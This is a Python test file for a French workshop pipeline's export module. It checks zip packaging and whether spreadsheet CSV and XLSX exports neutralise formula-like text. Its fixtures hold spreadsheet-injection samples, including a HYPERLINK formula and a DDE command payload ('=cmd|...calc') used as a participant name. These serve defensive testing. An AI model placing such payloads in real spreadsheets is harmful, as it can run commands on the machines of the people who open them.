"""Exports for organisers: the zip is the stored package, spreadsheet copies never run a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import contribution, participant

from pipeline import export, schemas, store
from pipeline.validate import validate_atelier
from pipeline.workshop import AtelierError, load_atelier
from pipeline.french import fr

FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://exemple.org/?"&A1;"Cliquez")',
    "+33 4 70 00 00 00",
    "-2 % de subventions",
    "@SUM(A1:A9)",
    "\tavec une tabulation devant",
    "\nune ligne vide devant",
]
PLAIN = ["Une idée = une action", "Circuits courts : 3 communes", "'déjà une apostrophe"]


@pytest.fixture
def folder(make_atelier) -> Path:
    contributions = [
        contribution(f"f{i}", text=text, position=i + 1, created_at="2026-11-20T10:00:00Z")
        for i, text in enumerate(FORMULAS)
    ] + [
        contribution(f"p{i}", text=text, position=20 + i, author="p-1", created_at="2026-11-20T11:30:00Z")
        for i, text in enumerate(PLAIN)
    ]
    contributions[-1]["updated_at"] = "2026-11-21T08:15:00Z"
    return make_atelier(participants=[participant("p-1", name="=cmd|' /C calc'!A0")], contributions=contributions)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("=1", True), ("+1", True), ("-1", True), ("@a", True), ("\ta", True), ("\ra", True), ("\na", True),
     ("\0a", True), ("", False), ("a=1", False), (" =1", False), ("'=1", False), ("été", False), ("1-2", False)],
)
def test_formula_like_text(text, expected):
    assert export.is_formula_like(text) is expected


def test_the_zip_holds_the_stored_package_byte_for_byte(folder):
    data = export.export_zip(folder)
    assert export.export_zip(folder) == data
    archive = zipfile.ZipFile(io.BytesIO(data))
    names = ["atelier.yaml", "contributions.csv", "datapackage.json", "participants.csv"]
    assert archive.namelist() == [f"essai-2026/{n}" for n in names]
    for name in names:
        assert archive.read(f"essai-2026/{name}") == (folder / name).read_bytes()
    # Dated by the data (the last updated_at), not by the clock.
    assert {i.date_time for i in archive.infolist()} == {(2026, 11, 21, 8, 15, 0)}


def test_the_zip_unpacks_into_a_valid_atelier(folder, tmp_path):
    zipfile.ZipFile(io.BytesIO(export.export_zip(folder))).extractall(tmp_path / "unzipped")
    copy = tmp_path / "unzipped" / "essai-2026"
    assert validate_atelier(copy) == []
    assert [c.text for c in load_atelier(copy).contributions] == FORMULAS + PLAIN


def test_the_zip_leaves_out_an_unfinished_append(folder):
    stored = (folder / "contributions.csv").read_bytes()
    with (folder / "contributions.csv").open("ab") as f:
        f.write(b"x9,q1,brainstorming,,idea,,1,,inach")
    archive = zipfile.ZipFile(io.BytesIO(export.export_zip(folder)))
    assert archive.read("essai-2026/contributions.csv") == stored


def test_the_zip_of_a_new_atelier_is_a_package_already(tmp_path, make_atelier):
    folder = make_atelier("vide-2026")
    for name in ("participants.csv", "contributions.csv", "datapackage.json"):
        (folder / name).unlink()
    archive = zipfile.ZipFile(io.BytesIO(export.export_zip(folder)))
    archive.extractall(tmp_path / "unzipped")
    assert validate_atelier(tmp_path / "unzipped" / "vide-2026") == []
    assert archive.read("vide-2026/participants.csv") == b"id,name,organisation,role,listed,created_at,status\n"
    assert {i.date_time for i in archive.infolist()} == {(2026, 11, 20, 0, 0, 0)}  # the day of the atelier


def spreadsheet_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8")[1:]
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_spreadsheet_csv_disarms_formulas_and_only_there(folder):
    rows = spreadsheet_rows(export.export_spreadsheet_csv(folder, "contributions"))
    names = schemas.field_names("contributions")
    # The schema's titles, with the atelier's own words for a question and a group.
    titles = {n: schemas.field("contributions", n)["title"] for n in names} | {"question": "Question", "group": "Sous-groupe"}
    assert rows[0] == list(titles.values())
    texts = [r[names.index("text")] for r in rows[1:]]
    assert texts == ["'" + t for t in FORMULAS] + PLAIN
    stored = [r["text"] for r in store.read_table(folder, "contributions")]
    assert stored == FORMULAS + PLAIN
    participants = spreadsheet_rows(export.export_spreadsheet_csv(folder, "participants"))
    assert participants[1][1] == "'=cmd|' /C calc'!A0"


def test_the_spreadsheet_csv_quotes_every_cell(folder):
    data = export.export_spreadsheet_csv(folder, "participants").decode("utf-8")
    assert data.splitlines()[1] == (
        '"p-1";"\'=cmd|\' /C calc\'!A0";"Communauté de communes";"agent ou chargé·e de mission";"oui";"20/11/2026 10:00";'
        '"émargement valable"'
    )


def test_the_spreadsheet_exports_say_labels_local_times_and_numbers(folder):
    """Finding 8: what people read (statut « publié », the format's labels, oui/non), dates in the atelier's zone."""
    rows = spreadsheet_rows(export.export_spreadsheet_csv(folder, "contributions"))
    first = dict(zip(rows[0], rows[1]))
    assert first["Question"] == "Question 1"
    assert first["Temps de l'atelier"] == "Brainstorming"
    assert first["Rubrique"] == "Idée"
    assert first["Statut"] == "publié"
    assert first["Créé le"] == "20/11/2026 11:00"  # 10:00 UTC is 11:00 in Paris in November
    assert first["Rang"] == "1"
    text = export.export_spreadsheet_csv(folder, "contributions").decode("utf-8")
    for code in ('"published"', '"brainstorming"', '"idea"', "T10:00:00Z"):
        assert code not in text
    sheet = openpyxl.load_workbook(io.BytesIO(export.export_xlsx(folder)))["contributions"]
    header = [c.value for c in sheet[1]]
    line = dict(zip(header, [c.value for c in sheet[2]]))
    assert line["Rang"] == 1 and sheet.cell(row=2, column=header.index("Rang") + 1).data_type == "n"
    assert line["Créé le"] == dt.datetime(2026, 11, 20, 11, 0)
    assert line["Statut"] == "publié" and line["Rubrique"] == "Idée"
    people = openpyxl.load_workbook(io.BytesIO(export.export_xlsx(folder)))["participants"]
    assert [c.value for c in people[2]][3:] == ["agent ou chargé·e de mission", "oui", dt.datetime(2026, 11, 20, 10, 0), "émargement valable"]


def test_the_spreadsheet_csv_of_an_unknown_table_is_refused(folder):
    with pytest.raises(AtelierError) as refused:
        export.export_spreadsheet_csv(folder, "votes")
    assert str(refused.value) == "ressource « votes » inconnue ; les ressources sont participants, contributions."


def test_the_xlsx_holds_every_row_as_text(folder):
    data = export.export_xlsx(folder)
    assert export.export_xlsx(folder) == data
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["participants", "contributions"]
    assert workbook.properties.created == workbook.properties.modified
    assert str(workbook.properties.created) == "2026-11-21 08:15:00"
    for resource in ("participants", "contributions"):
        sheet = workbook[resource]
        names = schemas.field_names(resource)
        cells = [[c.value for c in row] for row in sheet.iter_rows()]
        titles = {n: schemas.field(resource, n)["title"] for n in names}
        if resource == "contributions":
            titles |= {"question": "Question", "group": "Sous-groupe"}
        assert cells[0] == list(titles.values())
        texts = [n for n in names if schemas.field(resource, n).get("type") == "string"]
        expected = [[r[n] or None for n in texts] for r in store.read_table(folder, resource)]
        if resource == "contributions":  # the codes of the format read as its labels (finding 8)
            labels = {"question": "Question 1", "phase": "Brainstorming", "section": "Idée", "status": "publié"}
            expected = [[labels.get(n, v) for n, v in zip(texts, row)] for row in expected]
        else:
            expected = [[{"technicien": "agent ou chargé·e de mission", "present": "émargement valable"}.get(v, v) for v in row] for row in expected]
        assert [[row[names.index(n)] for n in texts] for row in cells[1:]] == expected
        text_cells = {c.data_type for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None and c.column_letter in
                      {sheet.cell(row=1, column=names.index(n) + 1).column_letter for n in texts}}
        assert text_cells == {"s"}
    # Formula-like text keeps its exact text and is marked as typed text.
    sheet = workbook["contributions"]
    column = schemas.field_names("contributions").index("text")
    marks = [(row[column].value, row[column].quotePrefix) for row in sheet.iter_rows(min_row=2)]
    assert marks == [(t, True) for t in FORMULAS] + [(t, False) for t in PLAIN]
    assert workbook["participants"]["B2"].quotePrefix is True
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet2.xml")
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the file


def test_the_export_command_writes_each_format(folder, tmp_path):
    from click.testing import CliRunner

    from pipeline.cli import main

    runner = CliRunner()
    for name, args, expected in [
        ("paquet.zip", [], export.export_zip(folder)),
        ("classeur.xlsx", [], export.export_xlsx(folder)),
        ("presents.csv", ["--table", "participants"], export.export_spreadsheet_csv(folder, "participants")),
    ]:
        out = tmp_path / name
        result = runner.invoke(main, ["export", str(folder), "-o", str(out), *args])
        assert result.exit_code == 0, result.output
        assert result.output == fr(f"{out} : écrit.\n")
        assert out.read_bytes() == expected
    refused = runner.invoke(main, ["export", str(folder), "-o", str(tmp_path / "x.pdf")])
    assert refused.exit_code == 2
    assert fr("« x.pdf » : extension inconnue ; choisissez .zip, .xlsx ou .csv.") in refused.output
